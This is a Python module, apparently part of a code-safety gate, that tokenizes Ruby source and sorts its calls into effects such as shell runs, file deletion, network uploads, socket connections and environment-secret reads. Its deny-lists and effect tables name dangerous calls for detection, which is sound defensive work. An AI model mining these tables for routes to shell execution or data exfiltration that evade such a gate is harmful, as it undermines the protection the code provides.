"""Ruby: every name that is not a local variable is a call, so names are an accept-list."""

from __future__ import annotations

import itertools
import re
from typing import NamedTuple

from autogate.effects import Effect, Kind, Outcome, RunShell
from autogate.knowledge.languages._calls import effects
from autogate.knowledge.languages._reader import NotReadError, Reader
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOME,
    LIMIT,
    at_home,
    distinct,
    opened,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import MANY, STAR, UNKNOWN, is_static

_KEYWORDS = frozenset(
    """BEGIN END alias and begin break case class def defined? do else elsif end ensure false for if in module next nil not or redo
    rescue retry return self super then true undef unless until when while yield __FILE__ __LINE__ __method__ lambda proc loop private
    public protected attr_accessor attr_reader attr_writer raise catch throw block_given? initialize new""".split()
)
_REGEX_AFTER = frozenset(
    "if unless while until when and or not return then else elsif do in case puts print p begin".split()
)
_PURE = frozenset(
    """puts print p pp printf putc sprintf format gets readline readlines rand srand sleep exit abort Integer Float String Array Rational Complex Hash
    warn chomp chop sub gsub sub! gsub! chomp! chop! chr ord upcase downcase capitalize swapcase upcase! downcase! capitalize! reverse reverse! strip
    strip! lstrip rstrip squeeze squeeze! tr tr_s delete delete! count length size index rindex scan split each_char chars bytes each_byte lines each_line
    codepoints start_with? end_with? include? match match? =~ center ljust rjust hex oct to_i to_f to_s to_r to_c to_a to_h to_sym inspect succ next pred
    times upto downto step each each_with_index each_with_object each_slice each_cons each_pair each_key each_value each_index each_entry map map! flat_map
    collect collect! select select! filter filter! filter_map reject reject! find detect find_index find_all partition group_by chunk_while slice_when tally
    inject reduce sum min max minmax min_by max_by minmax_by sort sort! sort_by sort_by! uniq uniq! zip take take_while drop drop_while first last cycle
    compact compact! flatten flatten! push append pop shift unshift prepend insert concat join fill clear replace values values_at keys key key? has_key?
    value? has_value? member? fetch dig store merge merge! update delete_if keep_if delete_at slice slice! invert any? all? none? one? empty? nil?
    zero? positive? negative? even? odd? integer? finite? nan? infinite? abs ceil floor round truncate divmod modulo div fdiv pow gcd lcm digits bit_length
    product combination permutation transpose rotate rotate! sample shuffle assoc dup clone freeze frozen? is_a? kind_of? instance_of? respond_to?
    class name object_id hash eql? equal? itself then tap yield_self lazy with_index with_object next! rewind force entries to_set add
    subset? superset? union intersection difference intersect? default transform_values transform_keys group_by sum each_entry
    now today year month day hour min sec wday yday strftime iso8601 parse strptime utc localtime to_date to_time to_datetime zone at mktime gm local monotonic
    pi sqrt sin cos tan atan atan2 exp log log2 log10 cbrt hypot generate pretty_generate dump hexdigest base64digest encode64 decode64 strict_encode64
    strict_decode64 urlsafe_encode64 urlsafe_decode64 digest encode force_encoding encoding unicode_normalize valid_encoding? b unpack unpack1 pack
    message full_message backtrace captures named_captures pre_match post_match begin end to_str escape unescape quote source options names hex uuid
    alphanumeric random_number random_bytes urlsafe_base64 flush sync sync= puts write << read readchar getc eof? each_char close closed? tty? isatty
    lineno rewind string call arity curry to_proc ljust instance_variables instance_variable_get members to_json to_csv
    headers header_row? row by_col generate_line parse_line safe_load safe_dump members each_pair between? clamp coerce numerator denominator
    rationalize real imaginary conj superclass_ methods_ rjust casecmp casecmp? sum succ! next! ascii_only?
    delete_prefix delete_suffix each_grapheme_cluster undump intern unpack lstrip! rstrip! partition rpartition prepend bytesize byteslice setbyte getbyte
    basename dirname extname join absolute_path? split exist? file? directory? size? zero? readable? writable? executable? symlink? mtime atime ctime stat ftype expand_path
    fnmatch fnmatch? pwd getwd hostname count getlogin level info debug error fatal formatter at_exit gmtime usec nsec to_enum enum_for bsearch
    instance_variable_set instance_variable_defined? define_ binding_ exit! prompt_""".split()
)
_CONSTANTS = frozenset(
    """ARGV ARGF STDIN STDOUT STDERR DATA RUBY_VERSION RUBY_PLATFORM RUBY_ENGINE RUBY_PATCHLEVEL RUBY_DESCRIPTION RUBY_RELEASE_DATE RUBY_COPYRIGHT Array Hash String
    Integer Float Symbol Range Regexp Time Date DateTime Math Struct Set Comparable Enumerable Enumerator Numeric Rational Complex BigDecimal
    JSON Digest MD5 SHA1 SHA256 SHA512 Base64 SecureRandom Random StringIO CSV Shellwords Etc Gem Version StandardError RuntimeError ArgumentError
    TypeError KeyError NameError IndexError ZeroDivisionError StopIteration NotImplementedError Exception Errno ENOENT EOFError Interrupt PI E INFINITY NAN EPSILON MAX
    CGI URI Logger Benchmark Data OpenStruct Prime Matrix Vector Abbrev NilClass TrueClass FalseClass Encoding UTF_8 Zlib GC RbConfig CONFIG ParserError
    Process CLOCK_MONOTONIC Timeout SystemExit Signal_ Monitor Mutex Queue Psych_ YAML PP Bundler_ Forwardable Singleton Observer""".split()
)
_LIBRARIES = frozenset(
    """json date time set csv digest digest/md5 digest/sha1 digest/sha2 base64 securerandom stringio shellwords etc pp bigdecimal prime matrix
    benchmark logger ostruct uri cgi erb yaml zlib fileutils tempfile tmpdir net/http open-uri socket open3 English optparse strscan timeout
    forwardable singleton observer abbrev find pathname rbconfig monitor delegate tsort io/console ripper openssl psych resolv rexml/document
    net/https net/ftp net/smtp pstore weakref racc coverage objspace cmath rational thread""".split()
)
_EFFECTS = {
    "system": "argv", "exec": "argv", "spawn": "argv", "Kernel.system": "argv", "Kernel.exec": "argv", "Kernel.spawn": "argv", "Process.spawn": "argv", "Process.exec": "argv",
    "IO.popen": "popen", "Open3.capture2": "argv", "Open3.capture2e": "argv", "Open3.capture3": "argv", "Open3.popen3": "argv", "Open3.popen2": "argv", "Open3.popen2e": "argv", "Open3.pipeline": "argv",
    "open": "kernel-open", "Kernel.open": "kernel-open", "URI.open": "download", "load": "file", "require_relative": "file", "syscall": "code", "fork": "code", "Process.fork": "code",
    "eval": "code", "instance_eval": "code", "class_eval": "code", "module_eval": "code", "Process.kill": "process", "Process.daemon": "code", "test": "pure",
    "File.read": "read", "File.binread": "read", "File.readlines": "read", "File.foreach": "read", "File.open": "open", "File.new": "open", "File.write": "write", "File.binwrite": "write",
    "IO.read": "io-read", "IO.binread": "io-read", "IO.readlines": "io-read", "IO.foreach": "io-read", "IO.write": "write", "IO.copy_stream": "copy", "File.delete": "deletes", "File.unlink": "deletes", "File.rename": "move",
    "File.symlink": "link", "File.link": "link", "File.chmod": "mode-first", "File.chown": "owner-first", "File.lchown": "owner-first", "File.truncate": "write", "File.utime": "code", "File.mkfifo": "create", "File.readlink": "pure",
    "Dir.mkdir": "create", "Dir.rmdir": "delete", "Dir.delete": "delete", "Dir.unlink": "delete", "Dir.glob": "pure", "Dir.entries": "read", "Dir.children": "read", "Dir.each_child": "read", "Dir.foreach": "read", "Dir.new": "read", "Dir.open": "read",
    "Dir.exist?": "pure", "Dir.pwd": "pure", "Dir.getwd": "pure", "Dir.home": "pure", "Dir.empty?": "pure", "Dir.chdir": "code", "Dir.mktmpdir": "pure", "Dir.tmpdir": "pure", "Dir.[]": "pure",
    "FileUtils.rm": "deletes", "FileUtils.rm_f": "deletes", "FileUtils.rm_r": "deletes-tree", "FileUtils.rm_rf": "deletes-tree", "FileUtils.remove_dir": "delete-tree", "FileUtils.rmtree": "deletes-tree", "FileUtils.remove_entry": "delete-tree",
    "FileUtils.remove_entry_secure": "delete-tree", "FileUtils.remove": "deletes", "FileUtils.rmdir": "delete", "FileUtils.mv": "move", "FileUtils.move": "move", "FileUtils.cp": "copy", "FileUtils.copy": "copy", "FileUtils.cp_r": "copy", "FileUtils.mkdir": "create",
    "FileUtils.mkdir_p": "create", "FileUtils.makedirs": "create", "FileUtils.touch": "create", "FileUtils.ln_s": "link", "FileUtils.ln": "link", "FileUtils.ln_sf": "link", "FileUtils.chmod": "mode-first", "FileUtils.chmod_R": "mode-first", "FileUtils.pwd": "pure",
    "FileUtils.chown": "owner-last", "FileUtils.chown_R": "owner-last", "FileUtils.install": "copy", "Find.find": "tree", "CSV.read": "read", "CSV.foreach": "read", "CSV.table": "read", "CSV.open": "open", "YAML.load_file": "read", "JSON.load_file": "read", "YAML.safe_load_file": "read",
    "Net::HTTP.get": "download", "Net::HTTP.get_response": "download", "Net::HTTP.get_print": "download", "Net::HTTP.post": "upload", "Net::HTTP.post_form": "upload", "Net::HTTP.start": "connect", "Net::HTTP.new": "connect", "TCPSocket.new": "connect", "TCPSocket.open": "connect",
    "Socket.tcp": "connect", "TCPServer.new": "listen", "TCPServer.open": "listen", "UDPSocket.new": "code", "Socket.gethostname": "pure", "Resolv.getaddress": "request", "IPSocket.getaddress": "request", "Marshal.load": "code", "YAML.load": "code",
    "YAML.unsafe_load": "code", "File.lstat": "pure", "File.identical?": "pure", "File.realpath": "pure", "File.absolute_path": "pure", "Process.pid": "pure", "Process.clock_gettime": "pure", "Process.ppid": "pure", "Process.uid": "pure", "Etc.getlogin": "pure", "Etc.nprocessors": "pure",
    "Etc.getpwuid": "pure", "RbConfig.ruby": "pure", "Gem.path": "pure", "Gem.dir": "pure", "Gem.loaded_specs": "pure", "Benchmark.measure": "pure", "Benchmark.realtime": "pure", "Timeout.timeout": "pure", "Shellwords.split": "pure", "Shellwords.escape": "pure",
    "Signal.trap": "code", "trap": "code", "Process.clock_getres": "pure", "GC.start": "pure", "GC.stat": "pure", "File.symlink?": "pure", "Tempfile.new": "pure", "Tempfile.create": "pure", "Logger.new": "open", "Process.wait": "pure", "ENV.fetch": "env", "ENV.[]": "env",
    "JSON.load": "pure", "Digest::SHA256.file": "read", "Digest::MD5.file": "read", "Digest::SHA1.file": "read",
}  # fmt: skip
_OWNERS = frozenset(name.rpartition(".")[0] for name in _EFFECTS if "." in name)
_DENIED = frozenset(
    "send __send__ public_send method instance_method public_method define_method instance_exec class_exec const_get const_missing method_missing binding ObjectSpace Kernel Object Module Class Method Proc TracePoint".split()
)
_GLOBALS = re.compile(
    r"\$(_|~|!|@|\d+|&|`|'|\+|/|\\|,|;|\.|0|\$|\?|<|>|\*|-[alpw]|stdin|stdout|stderr|PROGRAM_NAME|DEBUG|VERBOSE|F|FILENAME)"
)

_token = re.compile(
    r"""(?P<space>(?:[ \t\r\f\v]|\\\r?\n|\#[^\n]*)+)
    |(?P<newline>\n)
    |(?P<number>0[xXbBoO][0-9a-fA-F_]+|[0-9][0-9_]*(?:\.[0-9][0-9_]*)?(?:[eE][+-]?[0-9]+)?r?i?)
    |(?P<symbol>:(?:[^\W0-9]\w*[?!=]?(?![\w:])|\*\*|<=>|===?|=~|!=|[-+*/%<>&|^!]|\[\]=?))
    |(?P<label>[^\W0-9]\w*[?!]?:(?!:))
    |(?P<name>[^\W0-9]\w*(?:[?!](?![=~])|[?!](?===))?)
    |(?P<gvar>\$(?:[^\W0-9]\w*|[0-9]+|-\w|[^\w\s]))
    |(?P<ivar>@@?[^\W0-9]\w*)
    |(?P<op>\*\*=|<=>|===|\|\|=|&&=|<<=|>>=|\.\.\.|=>|->|&\.|\.\.|::|\*\*|==|!=|=~|!~|<=|>=|&&|\|\||<<|>>|[-+*/%&|^]=|[-+*/%<>=!~?:.,;(){}\[\]&|^])
    """,
    re.VERBOSE,
)
_CLOSING = {"(": ")", "[": "]", "{": "}", "<": ">"}


class _Token(NamedTuple):
    kind: str
    """``name`` ``text`` (its value) ``number`` ``regex`` ``symbol`` ``label`` ``gvar`` ``ivar`` ``words`` ``op``."""
    text: str
    spaced: bool = False
    """A blank stands before it."""


_NOTHING = _Token("op", "")


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing."""
    if len(text) > LIMIT:
        return (uncertain("ruby", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("ruby")]
    for option in options:
        if option.startswith("-r") and option[2:] not in _LIBRARIES:
            out.append(uncertain("ruby", f"the library {option[2:]}"))
        elif option.startswith(("-I", "-C")):
            out.append(uncertain("ruby", f"the option {option}"))
    reader = _Reader(arguments)
    try:
        reader.tokenize(strip_markers(text), 0, "", 0)
    except NotReadError as problem:
        reader.doubt(str(problem))
    reader.read()
    return distinct([*(at_home(o) for o in reader.out), *out])


class _Reader(Reader):
    """Tokens first, then the names."""

    language = "ruby"

    def __init__(self, arguments: tuple[str, ...]) -> None:
        self.arguments = arguments
        self.tokens: list[_Token] = []
        self.lifted: list[list[_Token]] = []
        self.out: list[Outcome] = []
        self.locals: set[str] = set()
        self.methods: set[str] = set()
        self.values: dict[str, str] = {}
        self.symbols: set[str] = set()

    # tokens

    def tokenize(self, text: str, at: int, closing: str, depth: int) -> int:
        """Adds the tokens; in an interpolation up to its closing brace."""
        if depth > 20:
            raise NotReadError("deep nesting")
        braces = 0
        spaced = False
        while at < len(text):
            char = text[at]
            if char == "=" and text.startswith("=begin", at) and (at == 0 or text[at - 1] == "\n"):
                end = text.find("\n=end", at)
                if end < 0:
                    raise NotReadError("a comment without end")
                end = text.find("\n", end + 1)
                at = len(text) if end < 0 else end
                continue
            if text.startswith("__END__", at) and (at == 0 or text[at - 1] == "\n"):
                return len(text)
            if char in "\"'`":
                at = self._quoted(text, at, char, char, interpolates=char != "'", depth=depth, spaced=spaced)
                spaced = False
                continue
            if char in "/%<?:" and (end := self._special(text, at, spaced=spaced, depth=depth)) > at:
                at = end
                spaced = False
                continue
            match = _token.match(text, at)
            if match is None:
                raise NotReadError(f"the character {char!r}")
            at = match.end()
            kind = match.lastgroup or ""
            word = match[0]
            if kind == "space":
                spaced = True
                continue
            if kind == "newline":
                spaced = True
                if self.tokens and self.tokens[-1].text not in (
                    ",",
                    "(",
                    "[",
                    "{",
                    "|",
                    "\n",
                    ".",
                    "&&",
                    "||",
                    "+",
                ):
                    self.tokens.append(_Token("op", "\n"))
                continue
            if kind == "op" and closing:
                if word == "{":
                    braces += 1
                elif word == "}":
                    if braces == 0:
                        return at
                    braces -= 1
            if kind == "label":
                before = self._last()
                if before.text == "?" or (
                    before.text not in ("{", ",", "(", "|") and before.kind != "name" and not spaced
                ):
                    kind, word = "name", word[:-1]
                    at -= 1
                else:
                    word = word[:-1]
            self.tokens.append(_Token(kind, word, spaced))
            spaced = False
        if closing:
            raise NotReadError("a text without end")
        return at

    def _last(self) -> _Token:
        return self.tokens[-1] if self.tokens else _NOTHING

    def _operand(self, *, spaced: bool, following: str) -> bool | None:
        """Whether an operand is expected here, None where it is not sure."""
        kind, text, _ = self._last()
        if not self.tokens:
            return True
        if kind in ("text", "number", "regex", "symbol", "gvar", "ivar", "words"):
            return False
        if kind == "label":
            return True
        if kind == "name":
            if text in _REGEX_AFTER:
                return True
            if text in ("end", "self", "true", "false", "nil"):
                return False
            before = self.tokens[-2].text if len(self.tokens) > 1 else ""
            if text in self._known_locals() and before != ".":
                return None if spaced and not following.isspace() else False
            return spaced and not following.isspace()
        return text not in (")", "]", "}")

    def _known_locals(self) -> set[str]:
        return {
            a.text
            for a, b in itertools.pairwise(self.tokens)
            if a.kind == "name" and b.text in ("=", "+=", ",", "|", "||=", "<<", "-=")
        } | {
            b.text
            for a, b in itertools.pairwise(self.tokens[-200:])
            if a.text in ("|", ",", "(") and b.kind == "name"
        }

    def _special(self, text: str, at: int, *, spaced: bool, depth: int) -> int:
        """Regular expressions, percent literals, here-documents, characters, quoted symbols."""
        char = text[at]
        following = text[at + 1 : at + 2]
        if char == ":":
            if following == '"' and self._operand(spaced=spaced, following=following) is not False:
                return self._quoted(text, at + 1, '"', '"', interpolates=True, depth=depth, spaced=spaced)
            return at
        if char == "<":
            if (
                re.match(r"<<[~-]?[\"'`A-Z_]", text[at:])
                and self._operand(spaced=spaced, following=following) is not False
            ):
                raise NotReadError("a here-document")
            return at
        if char == "?":
            if self._operand(spaced=spaced, following=following) and re.match(r"\?(\\.|\w)(?!\w)", text[at:]):
                end = at + 3 if following == "\\" else at + 2
                self.tokens.append(_Token("text", text[at + 1 : end], spaced))
                return end
            return at
        operand = self._operand(spaced=spaced, following=following)
        if operand is None:
            raise NotReadError(f"a {char} that may divide or begin a text")
        if not operand:
            return at
        if char == "/":
            end = self._quoted(text, at, "/", "/", interpolates=True, depth=depth, spaced=spaced)
            self.tokens[-1] = _Token("regex", "", spaced)
            flags = re.compile("[a-z]*").match(text, end)
            assert flags is not None
            return flags.end()
        match = re.compile(r"%([qQwWiIrsx]?)([^\w\s])").match(text, at)
        if match is None:
            raise NotReadError("a percent sign")
        start = match.end() - 1
        closing = _CLOSING.get(match[2], match[2])
        kind = match[1]
        end = self._quoted(
            text,
            start,
            match[2],
            closing,
            interpolates=kind not in ("q", "w", "i", "s"),
            depth=depth,
            spaced=spaced,
        )
        token = self.tokens[-1]
        if kind == "x":
            self.out.append(RunShell(token.text))
            self.tokens[-1] = _Token("text", UNKNOWN, spaced)
        elif kind in ("w", "W"):
            self.tokens[-1] = _Token("words", token.text, spaced)
        elif kind in ("i", "I"):
            for word in token.text.split():
                self._symbol(word)
            self.tokens[-1] = _Token("words", token.text, spaced)
        elif kind == "r":
            self.tokens[-1] = _Token("regex", "", spaced)
            flags = re.compile("[a-z]*").match(text, end)
            assert flags is not None
            return flags.end()
        return end

    def _quoted(
        self, text: str, at: int, opening: str, closing: str, *, interpolates: bool, depth: int, spaced: bool
    ) -> int:
        parts: list[str] = []
        nested = 0
        index = at + 1
        while index < len(text):
            char = text[index]
            if char == "\\":
                following = text[index + 1 : index + 2]
                if interpolates:
                    parts.append(
                        {"n": "\n", "t": "\t", "r": "\r", "e": "\x1b", "s": " ", "0": UNKNOWN}.get(
                            following, UNKNOWN if following in "xuCMc1234567" else following
                        )
                    )
                else:
                    parts.append(following if following in ("\\", closing, opening) else "\\" + following)
                index += 2
                continue
            if char == closing and nested == 0:
                value = re.sub("\x00+", "\x00", with_unknown("".join(parts)))
                if opening == "`":
                    self.out.append(RunShell(value))
                    value = UNKNOWN
                self.tokens.append(_Token("text", value, spaced))
                return index + 1
            if char == closing:
                nested -= 1
            elif char == opening:
                nested += 1
            if interpolates and char == "#" and text[index + 1 : index + 2] in ("{", "@", "$"):
                parts.append(UNKNOWN)
                if text[index + 1] == "{":
                    saved, self.tokens = self.tokens, []
                    index = self.tokenize(text, index + 2, "}", depth + 1)
                    self.lifted.append(self.tokens)
                    self.tokens = saved
                else:
                    index += 1
                continue
            parts.append(char)
            index += 1
        raise NotReadError("a text without end")

    # names

    def _at(self, at: int) -> _Token:
        return self.tokens[at] if 0 <= at < len(self.tokens) else _NOTHING

    def read(self) -> None:
        """Finds the local names, then looks at every token."""
        for group in self.lifted:
            self.tokens.append(_Token("op", ";"))
            self.tokens.extend(group)
        self._declare()
        self.symbols = {t.text[1:] for t in self.tokens if t.kind == "symbol" and t.text[1:] not in _DENIED}
        for at, (kind, text, _) in enumerate(self.tokens):
            if kind == "name":
                self._name(at)
            elif kind == "gvar" and not _GLOBALS.fullmatch(text):
                self.doubt(f"the variable {text}")
            elif kind == "symbol":
                self._symbol(text[1:])
            elif kind == "op" and text == "." and self._at(at + 1).text == "(":
                continue  # a lambda's call: lambdas are written in the code

    def _symbol(self, name: str) -> None:
        """A symbol may be called by ``&:name`` or ``inject(:name)``."""
        if name in _EFFECTS or name in _DENIED or (f"File.{name}" in _EFFECTS and name == "unlink"):
            self.doubt(f"the symbol {name}")

    def _declare(self) -> None:
        assigned: dict[str, list[str | None]] = {}
        tokens = self.tokens
        pipes = False
        for at, (kind, text, _) in enumerate(tokens):
            following = self._at(at + 1)
            before = self._at(at - 1)
            if text == "|" and kind == "op" and (before.text in ("{", "do") or pipes):
                pipes = not pipes
                continue
            if kind != "name":
                continue
            if before.text == "def" and before.kind == "name":
                name = self._at(at + 2).text if following.text == "." else text
                self.methods.add(name)
                index = at + 1 if following.text != "." else at + 3
                while index < len(tokens) and tokens[index].text not in ("\n", ";", ")"):
                    if tokens[index].kind in ("name", "label"):
                        self.locals.add(tokens[index].text)
                    index += 1
            elif before.text in ("class", "module") and before.kind == "name":
                self.methods.add(text)
            elif pipes or (
                before.text in ("->", "for") or (before.text in ("(", ",") and self._in_lambda(at))
            ):
                self.locals.add(text)
                assigned.setdefault(text, []).append(None)
            elif (before.text == "=>" and self._at(at - 2).text == "rescue") or (
                before.text == "=>" and self._at(at - 2).kind == "name" and self._at(at - 3).text == "rescue"
            ):
                self.locals.add(text)
            elif (before.text not in (".", "&.") and text[0].islower()) or text[0] == "_":
                if following.text == "=" or (following.text in (",", ")") and self._multiple(at)):
                    self.locals.add(text)
                    value, end = self._at(at + 2), self._at(at + 3)
                    static = (
                        value.text
                        if following.text == "="
                        and value.kind in ("text", "number")
                        and end.text in (";", "\n", "", ")", "}")
                        else None
                    )
                    assigned.setdefault(text, []).append(static)
                elif following.text in ("+=", "||=", "-=", "*=", "&&=", "<<") and before.text != ".":
                    if following.text != "<<":
                        self.locals.add(text)
                    assigned.setdefault(text, []).append(None)
                elif following.text == "." and self._at(at + 2).text in (
                    "concat",
                    "replace",
                    "insert",
                    "prepend",
                    "sub!",
                    "gsub!",
                    "<<",
                    "upcase!",
                    "downcase!",
                    "reverse!",
                    "tr!",
                    "clear",
                    "slice!",
                    "chomp!",
                    "strip!",
                ):
                    assigned.setdefault(text, []).append(None)
        for name, values in assigned.items():
            if len(set(values)) == 1 and values[0] is not None:
                self.values[name] = values[0]
        self.locals -= self.methods

    def _in_lambda(self, at: int) -> bool:
        index = at - 1
        while index >= 0 and self.tokens[index].text not in ("(", "\n", ";"):
            index -= 1
        return self._at(index - 1).text == "->"

    def _multiple(self, at: int) -> bool:
        """Whether the name stands in a multiple assignment ``a, b = …`` at the start of a statement."""
        index = at
        while self._at(index - 1).text in (",", "*", "(") or (
            self._at(index - 1).kind == "name" and self._at(index).text == ","
        ):
            index -= 1
        if index > 0 and self._at(index - 1).text not in ("\n", ";", "{", "do", "|", "then", "else"):
            return False
        while index < len(self.tokens) and (
            self.tokens[index].kind == "name" or self.tokens[index].text in (",", "*", "(", ")")
        ):
            index += 1
        return self._at(index).text == "="

    def _name(self, at: int) -> None:
        text = self.tokens[at].text
        before = self._at(at - 1)
        following = self._at(at + 1)
        if before.kind == "name" and before.text in ("def", "class", "module", "alias", "undef"):
            if before.text == "alias":
                self._symbol(text)
                self._symbol(following.text)
            return
        if before.text == "." and self._at(at - 2).text == "def":
            return
        if before.text in (".", "&.", "::"):
            self._member(at)
            return
        if text in self.locals and following.text != "(":
            if not (text in _EFFECTS or text in _DENIED):
                return
            if not self._assigned_before(at):
                self.doubt(f"the name {text}")
            return
        if text in ("require", "require_relative", "load", "autoload"):
            self._require(text, at)
        elif text == "ENV":
            self._environment(at)
        elif text in _DENIED:
            self.doubt(text)
        elif text in self.methods or text in _KEYWORDS or text in self.locals:
            return
        elif text in _EFFECTS:
            self._effect(text, at)
        elif text in _PURE:
            return
        elif text[0].isupper():
            self._constant(at)
        else:
            self.doubt(f"the name {text}")

    def _assigned_before(self, at: int) -> bool:
        return any(
            self.tokens[i].text == self.tokens[at].text
            and (self._at(i + 1).text == "=" or self._at(i - 1).text == "|")
            for i in range(at + 1)
        )

    def _constant(self, at: int) -> None:
        text = self.tokens[at].text
        following = self._at(at + 1)
        full = text
        index = at
        while self._at(index + 1).text == "::" and self._at(index + 2).text[:1].isupper():
            index += 2
            full += "::" + self.tokens[index].text
        if self._at(index + 1).text in (".", "&.", "::") and f"{full}.{self._at(index + 2).text}" in _EFFECTS:
            return  # looked at with its member
        if self._at(index + 1).text == "[" and f"{full}.[]" in _EFFECTS:
            return
        if text in _CONSTANTS or text in self.methods or following.text == "=":
            return
        if full in _OWNERS and self._at(index + 1).text in (".", "&."):
            if full in ("File", "IO", "Dir") and self._at(index + 2).text in ("SEPARATOR", *_PURE):
                return
            return  # its member is looked at
        if full in ("File::SEPARATOR", "Net::HTTP", "File::Stat") or full.startswith("Errno::"):
            return
        self.doubt(f"the name {full}")

    def _member(self, at: int) -> None:
        text = self.tokens[at].text
        owner = self._owner(at)
        full = f"{owner}.{text}" if owner else ""
        if full in _EFFECTS:
            self._effect(full, at)
            return
        if owner in _OWNERS and owner.partition("::")[0] not in _CONSTANTS and owner != "ENV":
            if owner in ("File", "Dir", "IO") and text in (
                "basename",
                "dirname",
                "extname",
                "join",
                "absolute_path?",
                "split",
                "exist?",
                "file?",
                "directory?",
                "size",
                "size?",
                "zero?",
                "empty?",
                "readable?",
                "writable?",
                "executable?",
                "symlink?",
                "mtime",
                "atime",
                "ctime",
                "stat",
                "ftype",
                "expand_path",
                "fnmatch",
                "fnmatch?",
                "pipe",
                "select",
                "SEPARATOR",
            ):
                return
            if text[:1].isupper():
                return  # a constant, looked at with its owner
            self.doubt(full)
            return
        if owner == "ENV":
            return
        if text in _DENIED or text in (
            "instance_eval",
            "class_eval",
            "module_eval",
            "system",
            "exec",
            "spawn",
            "eval",
        ):
            self.doubt(f"the method {text}")
        elif (
            text in _PURE
            or text in self.methods
            or text in ("new", "lambda", "first", "private", "raise", "class")
        ) or (text[:1].isupper() and (text in _CONSTANTS or owner or text == "HTTP")):
            return
        elif text in self.symbols:
            return  # an attribute of the code's own classes
        else:
            self.doubt(f"the method {text}")

    def _owner(self, at: int) -> str:
        """The constant that the member at this place belongs to, "" where it is a value."""
        index = at - 2
        if not self._at(index).text[:1].isupper() or self._at(index).kind != "name":
            return ""
        name = self._at(index).text
        while self._at(index - 1).text == "::" and self._at(index - 2).kind == "name":
            index -= 2
            name = f"{self._at(index).text}::{name}"
        return name

    def _require(self, word: str, at: int) -> None:
        values = self._arguments(at)
        name = values[0] if values else UNKNOWN
        if word == "require" and (name in _LIBRARIES or (name in ("rubygems", "bundler"))):
            return
        if word == "require" and not name.startswith((".", "/")):
            self.doubt(f"the library {name}")
        else:
            self.out.extend(effects("file", [name], "ruby", word))

    def _environment(self, at: int) -> None:
        following = self._at(at + 1)
        if following.text == "[":
            key, end = self._at(at + 2), self._at(at + 3)
            self.out.extend(variable_read(key.text if key.kind == "text" and end.text == "]" else UNKNOWN))
            if self._at(at + 4).text in ("=", "||="):
                self.doubt("a change of the environment")
        elif following.text in (".", "&.") and self._at(at + 2).text in (
            "fetch",
            "key?",
            "has_key?",
            "include?",
            "dig",
        ):
            values = self._arguments(at + 2)
            if self._at(at + 2).text in ("fetch", "dig"):
                self.out.extend(variable_read(values[0] if values else UNKNOWN))
        elif following.text == "." and self._at(at + 2).text in (
            "delete",
            "store",
            "replace",
            "update",
            "clear",
            "merge!",
            "[]=",
        ):
            self.doubt("a change of the environment")
        else:
            self.out.append(Effect(Kind.SECRET, ENVIRONMENT))

    # calls

    def _arguments(self, at: int) -> list[str]:
        """The arguments of the call named at this place, as values."""
        start = at + 1
        bracket = self._at(start).text == "("
        if bracket:
            start += 1
        depth = 0
        out: list[str] = []
        current: list[_Token] = []
        for index in range(start, min(len(self.tokens), start + 300)):
            kind, text, _ = self.tokens[index]
            if kind == "op":
                if text in ("(", "[", "{"):
                    if text == "{" and depth == 0 and not bracket and current:
                        break
                    depth += 1
                elif text in (")", "]", "}"):
                    if depth == 0:
                        break
                    depth -= 1
                elif depth == 0 and text == ",":
                    out.append(self._value(current))
                    current = []
                    continue
                elif depth == 0 and not bracket and text in (";", "\n", "||", "&&", "?"):
                    break
            elif (
                kind == "name"
                and depth == 0
                and text in ("if", "unless", "do", "and", "or", "while", "rescue", "end", "then")
            ):
                break
            current.append(self.tokens[index])
        if current:
            out.append(self._value(current))
        return out

    def _value(self, tokens: list[_Token]) -> str:
        while len(tokens) > 1 and tokens[0].text == "(" and tokens[-1].text == ")":
            tokens = tokens[1:-1]
        if not tokens:
            return UNKNOWN
        texts = [token.text for token in tokens]
        if tokens[0].text in ("*", "**", "&"):
            return MANY
        if len(tokens) == 4 and texts[:2] == ["ARGV", "["] and tokens[2].kind == "number":
            index = int(texts[2]) if texts[2].isdigit() else -1
            return (
                self.arguments[index]
                if 0 <= index < len(self.arguments) and MANY not in self.arguments[: index + 1]
                else UNKNOWN
            )
        if texts[:3] == ["Dir", ".", "home"] or texts[:4] == ["ENV", "[", "HOME", "]"]:
            rest = tokens[3:] if texts[0] == "Dir" else tokens[4:]
            if not rest:
                return HOME
            if rest[0].text == "+":
                return HOME + self._value(rest[1:])
            return UNKNOWN
        if texts[:4] == ["File", ".", "expand_path", "("] and len(tokens) == 6 and tokens[4].kind == "text":
            path = texts[4]
            return HOME + path[1:] if path == "~" or path.startswith("~/") else path
        if texts[:4] == ["File", ".", "join", "("] and texts[-1] == ")":
            groups: list[list[_Token]] = [[]]
            for token in tokens[4:-1]:
                if token.text == "," and token.kind == "op":
                    groups.append([])
                else:
                    groups[-1].append(token)
            return "/".join(self._value(group) for group in groups).replace("//", "/")
        if texts[:3] in (["Dir", ".", "glob"], ["Dir", "[", texts[2] if len(texts) > 2 else ""]):
            patterns = [token.text for token in tokens if token.kind == "text"]
            if len(patterns) == 1 and "**" not in patterns[0]:
                return patterns[0].replace("*", STAR).replace("?", "\x02")
            return UNKNOWN
        if texts[:3] in (["URI", "(", texts[2] if len(texts) > 2 else ""], ["URI", ".", "parse"]):
            found = [token.text for token in tokens if token.kind == "text"]
            return found[0] if len(found) == 1 else UNKNOWN
        parts: list[str] = []
        expects = True
        for kind, text, _ in tokens:
            if kind == "op" and text in ("+", "<<") and not expects:
                expects = True
            elif kind in ("text", "number"):
                parts.append(text)
                expects = False
            elif expects and kind == "name" and text in self.locals:
                parts.append(self.values.get(text, UNKNOWN))
                expects = False
            else:
                return UNKNOWN
        return re.sub("\x00+", "\x00", "".join(parts)) if parts and not expects else UNKNOWN

    def _effect(self, name: str, at: int) -> None:
        kind = _EFFECTS[name]
        values = self._arguments(at)
        first = values[0] if values else UNKNOWN
        if kind == "env":
            return
        if kind == "popen":
            if (self._at(at + 1).text == "(" and self._at(at + 2).text == "[") or self._at(
                at + 1
            ).text == "[":
                self.out.extend(effects("argv", [MANY], "ruby", name))
            else:
                self.out.extend(effects("shell", [first], "ruby", name))
